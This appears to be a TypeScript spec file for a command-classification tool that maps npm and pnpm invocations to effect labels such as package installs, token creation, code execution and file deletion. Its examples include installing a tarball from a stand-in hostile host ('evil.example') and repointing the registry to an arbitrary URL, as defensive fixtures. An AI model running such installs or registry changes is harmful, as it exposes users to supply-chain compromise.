/** npm and pnpm. */
import type { Command, ProgramSpec } from '../../program';
import { npmOptions } from './installs';
import { npmCommands } from './npm-commands';
import { runsNamedScript } from './scripts';

export const examples = {
  yields: {
    'npm install': 'package.install{source=lockfile,manager=npm,scripts=true}',
    'npm ci --ignore-scripts': 'package.install{source=lockfile,pinned=true,scripts=false}',
    'npm i -D left-pad@1.3.0': 'package.install{name=left-pad,source=registry,pinned=true,global=false}',
    'npm install -g @acme/tool': 'package.install{name=@acme/tool,global=true,pinned=false}',
    'npm i git+https://github.com/a/b.git': 'package.install{source=git}',
    'npm install https://evil.example/x.tgz': 'package.install{source=url}',
    'npm uninstall left-pad': 'package.remove{name=left-pad}',
    'npm publish --access public': 'package.publish{op=publish}',
    'npm unpublish acme@1.0.0 --force': 'package.publish{op=unpublish}',
    'npm config set registry http://x': 'config.write{target=package-manager,executes=true}',
    'npm config set color false': 'config.write{executes=false}',
    'npm token create': 'secret.write{op=mint}',
    'npm cache clean --force': 'package.remove',
  },
  inert: [
    'npm ls',
    'npm view react versions',
    'npm run',
    'npm audit',
    'npm publish --dry-run',
    'npm config get registry',
    'npm -v',
  ],
};

export const npm: ProgramSpec = {
  names: 'npm cnpm',
  options: npmOptions,
  commands: npmCommands,
  inertWith: ['--version'],
  examples,
};

/** `-w` is the root of the workspace, not one of its packages. */
const pnpmOptions = `${npmOptions.replace('-w,--workspace,--filter,-F=W', '--filter,-F,--filter-prod=W')} -w,--workspace-root`;

function asPnpm(command: Command): Command {
  const described = typeof command !== 'function' && !('length' in command);
  return described && command.options === npmOptions ? { ...command, options: pnpmOptions } : command;
}

export const pnpm: ProgramSpec = {
  names: 'pnpm',
  options: pnpmOptions,
  commands: Object.fromEntries(Object.entries(npmCommands).map(([names, command]) => [names, asPnpm(command)])),
  otherwise: runsNamedScript,
  examples: {
    yields: {
      'pnpm install --frozen-lockfile': 'package.install{manager=pnpm,source=lockfile,pinned=true,scripts=true}',
      'pnpm add -D zod@3.23.8': 'package.install{manager=pnpm,name=zod,pinned=true}',
      'pnpm dlx cowsay': 'package.install{name=cowsay,pinned=false} + code.exec{origin=registry}',
      'pnpm clean': 'code.exec{origin=project-config,resolved=true} + fs.delete{path=/repo/build}',
      'pnpm -w publish': 'package.publish{op=publish}',
    },
    inert: ['pnpm list --depth 0', 'pnpm why react', 'pnpm -r outdated'],
  },
};
